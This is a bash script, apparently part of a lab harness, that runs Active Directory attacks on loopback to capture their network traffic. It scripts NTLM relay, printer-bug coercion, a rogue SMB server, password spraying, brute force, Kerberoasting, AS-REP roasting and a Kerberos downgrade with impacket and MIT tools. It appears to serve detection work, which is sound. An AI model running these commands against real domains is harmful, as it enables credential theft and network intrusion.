# Sourced by generate.sh: the "attacks" set -> ../real-implementations/attacks/
# Real tools (impacket ntlmrelayx / smbserver / GetUserSPNs / GetNPUsers, smbclient, MIT kinit)
# doing what an attacker does, on loopback. The lab passwords are in set_params (generate.sh).
EX=/usr/share/doc/python3-impacket/examples

# bg NAME CMD...: start a background server for one scenario (stopped by stopbg)
BGPID=""
# (stdin is a FIFO that this shell holds open: ntlmrelayx waits on stdin and exits at its end)
bg() {
  local n=$1; shift
  [ -p $G/hold ] || mkfifo $G/hold; exec 9<>$G/hold
  "$@" < $G/hold > $LOGDIR/$n.log 2>&1 & BGPID=$!; PIDS+=($BGPID); sleep 6
}
stopbg() { [ -n "$BGPID" ] && kill $BGPID 2>/dev/null; wait $BGPID 2>/dev/null; BGPID=""; sleep 1; }

rogue_clients() {
  sc -U "$DOM\\$U1%$P1" //$ATKIP/PUBLIC -m SMB3 -c ls
  sc -U "$DOM\\$U2%$P2" //$ATKIP/PUBLIC -m SMB3 -c ls
  srcfor $ATKIP $CIP2                    # a second client address
  sc -U "$DOM\\$U1%$P1" //$ATKIP/PUBLIC -m SMB3 -c ls
}
relay_victim() { sc -U "WORKGRP\\$UFS%$PFS" //$ATKIP/share -m SMB3 -c ls; sleep 5; }
spray_smb() { local i; for i in $(seq -f '%02g' 1 $NSPRAY); do sc -U "$DOM\\user$i%$SPRAYPW" //$DCF/share -m SMB3 -c ls; done; }
spray_krb() { local u; for u in $(seq -f 'user%02g' 1 $NSPRAY) admin backup; do echo "$SPRAYPW" | kinit $u@$REALM; done; }
brute_smb() { local p; for p in $BRUTEPWS; do sc -U "$DOM\\$U1%$p" //$DCF/share -m SMB3 -c ls; done; }
brute_krb() { local p; for p in $BRUTEPWS; do echo "$p" | kinit $U1@$REALM; done; }

scen_attacks() {
  local D="host $DCIP" A="host $ATKIP"
  # 1. NTLM relay: ntlmrelayx listens on $ATKIP:445, relays to fs1 ($FSIP, signing not required).
  #    Victim: smbclient on $CIP -> $ATKIP as WORKGRP\carol. Relay leg: $ATKIP -> $FSIP.
  srcfor $FSIP $ATKIP
  bg srv_ntlmrelayx env PYTHONPATH=$GEN/pystubs $PY $EX/ntlmrelayx.py -t smb://$FSIP -smb2support -ip $ATKIP --no-http-server --no-wcf-server --no-raw-server -c 'echo relayed'
  cap ntlm_relay_smb_to_smb "host $ATKIP or host $FSIP" relay_victim
  stopbg; srcfor $FSIP $CIP
  # 2. Coerced authentication (MS-RPRN "printer bug"): the attacker ($ATKIP) calls the DC's spooler
  #    with alice's credentials: RpcRemoteFindFirstPrinterChangeNotificationEx(\\$ATKIP); the DC
  #    calls back to the attacker's SMB listener ($ATKIP:445, impacket). Then a machine-account
  #    logon DC1$ from the DC's address to the listener: smbclient -P (the DC's own stored machine
  #    password), because Samba's spooler calls back anonymously (see TRUTH.md).
  srcfor $DCIP $ATKIP; srcfor $ATKIP $DCIP
  bg srv_listener $PY $GEN/rogue_smb_server.py $ATKIP 1122334455667788 ATTACKER WORKGROUP $G/impshare
  cap coerce_rprn_then_machine_account_ntlm "host $ATKIP and host $DCIP" bash -c "$PY $GEN/coerce_rprn.py $DOM $U1 '$P1' $DCF $DCIP $ATKIP; sleep 4; smbclient --configfile=$G/dc/etc/smb.conf -P --use-kerberos=disabled //$ATKIP/PUBLIC -m SMB3 -c ls; sleep 1"
  stopbg; srcfor $DCIP $CIP; srcfor $ATKIP $CIP
  # 3. Rogue SMB server with a fixed challenge 1122334455667788: three logons from two clients
  bg srv_rogue $PY $GEN/rogue_smb_server.py $ATKIP 1122334455667788 FILESRV LAB $G/impshare
  cap rogue_smb_server_fixed_challenge "$A and tcp port 445" rogue_clients
  stopbg; srcfor $ATKIP $CIP
  # 4. Password spraying: one password, many accounts (user01..user08 exist; admin, backup do not)
  cap spray_smb_ntlm "$D and tcp port 445" spray_smb
  newcc s1
  cap spray_kerberos "$D and port 88" spray_krb
  # 5. Brute force: one account (alice), ten wrong passwords
  cap bruteforce_smb_ntlm "$D and tcp port 445" brute_smb
  newcc b1
  cap bruteforce_kerberos "$D and port 88" brute_krb
  # 6. Kerberoasting
  #  (a) impacket GetUserSPNs -request -usersfile (without KRB5CCNAME: impacket reads no "FILE:" prefix) (TGS-REQs for the service accounts, RC4 asked; no
  #      LDAP: impacket's LDAP NTLM bind is Sicily, which Samba does not speak). Samba 4.17's KDC
  #      refuses impacket 0.10's TGS-REQs with KRB_AP_ERR_INAPP_CKSUM: the attempt is on the wire.
  printf '%s\n' $SVC $SVC2 $SQLSVC $APPSVC > $G/spnusers.txt
  cap kerberoast_attempt_getuserspns "$D and port 88" env -u KRB5CCNAME $PY $EX/GetUserSPNs.py -request -usersfile $G/spnusers.txt -dc-ip $DCIP "$REALM/$U1:$P1"
  #  (b) the same pattern that succeeds, with MIT tools: AS (AES), then TGS-REQs asking only RC4 (kvno -e rc4-hmac)
  #      for four SPNs of three service accounts; the KDC issues RC4 service tickets
  newcc r2
  cap kerberoast_rc4_tgs_kvno "$D and port 88" bash -c "echo '$P1' | kinit $U1@$REALM && kvno -e rc4-hmac HTTP/$WEBF cifs/$ALIAS2.$DNSDOM MSSQLSvc/sql.$DNSDOM:1433 HTTP/app.$DNSDOM"
  # 7. AS-REP roasting: dave has userAccountControl 0x400200 (DONT_REQ_PREAUTH); impacket GetNPUsers
  #    without a password. Samba 4.17's KDC still answered KDC_ERR_PREAUTH_REQUIRED (see TRUTH.md).
  cap asrep_roast_attempt_getnpusers "$D and port 88" env -u KRB5CCNAME $PY $EX/GetNPUsers.py -no-pass -dc-ip $DCIP -format hashcat "$REALM/$ROAST"
  # 8. Kerberos downgrade: AES AS exchanges, then an RC4-only AS-REQ from the same client
  newcc d1
  cap krb_downgrade_aes_then_rc4 "$D and port 88" bash -c "echo '$P1' | kinit $U1@$REALM; kdestroy; echo '$P1' | kinit $U1@$REALM; kdestroy; echo '$P1' | KRB5_CONFIG=$G/krb5-rc4.conf kinit $U1@$REALM"
}
